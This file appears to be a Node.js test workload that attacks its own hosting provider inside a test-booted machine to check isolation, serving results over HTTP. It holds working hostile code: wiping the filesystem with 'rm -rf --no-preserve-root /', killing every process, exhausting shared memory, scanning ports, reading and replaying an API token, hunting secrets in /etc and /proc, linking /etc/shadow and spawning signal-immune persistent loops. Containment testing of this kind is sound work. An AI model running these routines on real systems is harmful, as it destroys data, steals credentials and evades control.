// A workload that does all that it can against its provider. Runs only inside a machine that a test boots: it clears
// folders, signals every process and fills what it can fill. `GET /report` answers with what it got done.
const { spawn, spawnSync } = require("node:child_process");
const fs = require("node:fs");
const http = require("node:http");
const net = require("node:net");
const path = require("node:path");
const { parseArgs } = require("node:util");

const { values } = parseArgs({
  strict: false,
  options: { host: { type: "string" }, port: { type: "string" }, name: { type: "string" }, data: { type: "string" } },
});
/** Its folder, where it was given none. */
values.data ??= process.cwd();

/** What no workload may ever get to see; the provider of the test plants it in all its secrets. */
const canary = /CANARY-[a-z-]+/g;
const result = (work) => {
  try {
    return String(work() ?? "done");
  } catch (error) {
    return error.code ?? String(error);
  }
};

/** Everything that listens in this network, and the ports below 1024 for good measure. */
function listening() {
  return ["tcp", "tcp6"].flatMap((family) =>
    fs
      .readFileSync(`/proc/net/${family}`, "latin1")
      .split("\n")
      .slice(1)
      .flatMap((line) => {
        const [, local, , state] = line.trim().split(/\s+/);
        if (state !== "0A") return [];
        const [hex, port] = local.split(":");
        const bytes = Buffer.from(hex.slice(0, 8), "hex").reverse();
        const address = family === "tcp6" || bytes.every((b) => b === 0) ? "127.0.0.1" : [...bytes].join(".");
        return [{ address, port: parseInt(port, 16) }];
      }),
  );
}

function connects({ address, port }, localPort) {
  return new Promise((resolve) => {
    const socket = net.connect({
      host: address,
      port,
      timeout: 3_000,
      ...(localPort && { localPort, localAddress: values.host }),
    });
    const end = (got) => (socket.destroy(), resolve(got));
    socket.once("connect", () => end("connected"));
    socket.once("timeout", () => end("timeout"));
    socket.once("error", (error) => end(error.code));
  });
}

const repository = path.resolve(__dirname, "../../..");

/** GET of what the API or the sidecar's status serves: the status, or why there was no answer. */
function asks({ address, port }, path, token) {
  const headers = token === undefined ? {} : { authorization: `Bearer ${token}` };
  return new Promise((resolve) => {
    const request = http.get({ host: address, port, path, headers, timeout: 3_000 }, (response) => {
      response.resume();
      resolve(response.statusCode);
    });
    request.once("timeout", () => request.destroy(Object.assign(new Error(), { code: "timeout" })));
    request.once("error", (error) => resolve(error.code));
  });
}

/** Create of a process, as the engine asks the provider server for it: the name of the gRPC status. */
function creates({ address, port }) {
  const grpc = require(path.join(repository, "node_modules/@grpc/grpc-js"));
  const proto = path.join(repository, "node_modules/@pulumi/pulumi/proto");
  const { ResourceProviderClient } = require(path.join(proto, "provider_grpc_pb.js"));
  const { CreateRequest } = require(path.join(proto, "provider_pb.js"));
  const { Struct } = require(path.join(repository, "node_modules/google-protobuf/google/protobuf/struct_pb.js"));
  const request = new CreateRequest();
  request.setUrn("urn:pulumi:s::p::dinfra-host:index:Process::mine");
  request.setType("dinfra-host:index:Process");
  request.setName("mine");
  request.setProperties(
    Struct.fromJavaScript({ root: "/tmp/mine", owner: "mine", name: "mine", command: ["/bin/true"] }),
  );
  const client = new ResourceProviderClient(`${address}:${port}`, grpc.credentials.createInsecure());
  const deadline = new Date();
  deadline.setSeconds(deadline.getSeconds() + 5);
  return new Promise((resolve) => {
    client.create(request, { deadline }, (error) => {
      client.close();
      resolve(error === null ? "OK" : grpc.status[error.code]);
    });
  });
}

/** Calls every service as those do that may. The token is the API's, where it can be read. */
async function calls(services) {
  let token = "none";
  try {
    token = fs.readFileSync("/var/lib/dinfra/reactor/api-token", "utf8").trim();
  } catch {
    // Not to be read.
  }
  const said = [];
  for (const service of services) {
    said.push({
      port: service.port,
      stranger: await asks(service, "/v1/deployments"),
      stolen: await asks(service, "/v1/deployments", token),
      status: await asks(service, "/healthz"),
      create: await creates(service),
    });
  }
  return said;
}

/** @param services what listens on the machine, for who cannot see it */
async function scan(services = listening()) {
  const found = services.filter(({ address, port }) => !(address === values.host && port === Number(values.port)));
  const reached = [];
  for (const service of found) if ((await connects(service)) === "connected") reached.push(service);
  // A port of one's own as the sender's: an answer may leave from it, a question may not.
  const own = await Promise.all(found.slice(0, 1).map((service) => connects(service, Number(values.port) + 1)));
  return {
    found: found.length,
    reached,
    calls: await calls(found),
    fromOwnPort: own,
    self: await connects({ address: values.host, port: Number(values.port) }),
  };
}

/** Searches what can be read of the whole machine for the canary, and lists what of others can be seen in /proc. */
function search() {
  const secrets = new Set();
  const look = (file) => {
    try {
      const stat = fs.lstatSync(file);
      if (stat.isSymbolicLink()) return;
      if (stat.isDirectory()) return fs.readdirSync(file).forEach((name) => look(path.join(file, name)));
      if (!stat.isFile() || stat.size > 4_000_000) return;
      for (const [secret] of fs.readFileSync(file, "latin1").matchAll(canary)) secrets.add(`${file}: ${secret}`);
    } catch {
      // Not to be read.
    }
  };
  for (const folder of ["/etc", "/home", "/opt", "/root", "/run", "/tmp", "/var", "/dev/shm"]) look(folder);
  const processes = fs
    .readdirSync("/proc")
    .filter((name) => /^\d+$/.test(name))
    .map(Number);
  for (let pid = 1; pid < 70_000; pid++)
    for (const file of ["environ", "cmdline"])
      try {
        const text = fs.readFileSync(`/proc/${pid}/${file}`, "latin1");
        for (const [secret] of text.matchAll(canary)) secrets.add(`/proc/${pid}/${file}: ${secret}`);
      } catch {
        // Not there, or not to be read.
      }
  const others = processes.filter(
    (pid) => (fs.statSync(`/proc/${pid}`, { throwIfNoEntry: false })?.uid ?? process.getuid()) !== process.getuid(),
  );
  return { secrets: [...secrets], others };
}

/** Signals every pid that there may be, except this process, its children and their threads, which alone it can see. */
function signal() {
  const hit = [];
  for (let pid = 1; pid < 70_000; pid++) {
    if (fs.existsSync(`/proc/${pid}`)) continue;
    const [killed, there] = [result(() => process.kill(pid, "SIGKILL")), result(() => process.kill(pid, 0))];
    if (killed === "true" || there === "true") hit.push(pid);
  }
  return hit;
}

function fill() {
  const shm = result(() => fs.writeFileSync("/dev/shm/full", Buffer.alloc(100_000_000, 1)));
  for (let n = 0; n < 20; n++) spawnSync("ipcmk", ["-M", "1000000", "-Q", "-S", "5"]);
  return {
    shm,
    made: spawnSync("ipcs", { encoding: "utf8" })
      .stdout.split("\n")
      .filter((l) => l.startsWith("0x")).length,
  };
}

function privileges() {
  const status = fs.readFileSync("/proc/self/status", "latin1");
  return {
    uid: process.getuid(),
    groups: process.getgroups(),
    capabilities: [...status.matchAll(/^Cap\w+:\s*(\S+)$/gm)].map((match) => match[1]),
    noNewPrivileges: /^NoNewPrivs:\s*1$/m.test(status),
    root: result(() => process.setuid(0)),
    group: result(() => fs.writeFileSync(`${groupFolder()}/cgroup.procs`, String(process.pid))),
    cwd: process.cwd(),
    environment: Object.keys(process.env)
      .filter((name) => !name.startsWith("DINFRA_HOST_"))
      .sort(),
  };
}

function groupFolder() {
  const line = fs
    .readFileSync("/proc/self/mountinfo", "latin1")
    .split("\n")
    .find((l) => l.includes(" - cgroup2 "));
  return line ? line.split(" ")[4] : "/sys/fs/cgroup";
}

/** As the program of a careless author: clears "its" folder, and then everything. */
function clear() {
  spawnSync("/bin/sh", ["-c", "rm -rf -- ./* ; rm -rf --no-preserve-root / 2>/dev/null"]);
}

/** Leaves processes that drop session, parent, environment and name, take the marks of another, and go on writing. */
function stay(owner, name) {
  const marks = Object.fromEntries(Object.entries(process.env).filter(([key]) => key.startsWith("DINFRA_HOST_")));
  const loop = 'trap "" TERM HUP INT; while :; do echo x > "$0/f$$.$(date +%N)" 2>/dev/null; done';
  const start = (env) => spawn("/usr/bin/setsid", ["-f", "/bin/sh", "-c", loop, values.data], { env, stdio: "ignore" });
  start({ PATH: process.env.PATH });
  start({ PATH: process.env.PATH, ...marks, DINFRA_HOST_OWNER: owner, DINFRA_HOST_NAME: name });
}

/** A data folder as nobody wants to remove it. */
function litter() {
  const at = (...names) => path.join(values.data, ...names);
  fs.symlinkSync("/etc", at("out"));
  fs.symlinkSync("/etc/passwd", at("file"));
  spawnSync("mkfifo", [at("pipe")]);
  for (const name of ["-rf", "a\nb", "~", " "]) fs.mkdirSync(at(name));
  fs.writeFileSync(Buffer.concat([Buffer.from(`${values.data}/`), Buffer.from([0xff, 0xfe])]), "");
  fs.mkdirSync(at("closed", "inner"), { recursive: true });
  fs.writeFileSync(at("closed", "inner", "f"), "");
  fs.chmodSync(at("closed", "inner"), 0);
  fs.chmodSync(at("closed"), 0);
  for (let n = 0; n < 20_000; n++) fs.writeFileSync(at(`n${n}`), "");
  const deep =
    'process.chdir(process.argv[1]); for (let i = 0; i < 3000; i++) { fs.mkdirSync("d"); process.chdir("d"); }';
  spawnSync(process.execPath, ["-e", `const fs = require("fs"); ${deep}`, values.data]);
  return result(() => fs.linkSync("/etc/shadow", at("shadow")));
}

async function report(services) {
  return {
    privileges: privileges(),
    scan: await scan(services),
    search: search(),
    signalled: signal(),
    filled: fill(),
  };
}

http
  .createServer((request, response) => {
    const url = new URL(request.url, "http://x");
    const acts = {
      "/report": () => report(JSON.parse(url.searchParams.get("services") ?? "null") ?? undefined),
      "/look": async () => ({ scan: await scan(), search: search() }),
      "/clear": clear,
      "/litter": litter,
      "/stay": () => stay(url.searchParams.get("owner"), url.searchParams.get("name")),
    };
    Promise.resolve(acts[url.pathname]?.() ?? "ok").then(
      (said) => response.end(JSON.stringify(said ?? null)),
      (error) => response.writeHead(500).end(error.stack),
    );
  })
  .listen({ host: values.host, port: Number(values.port) });
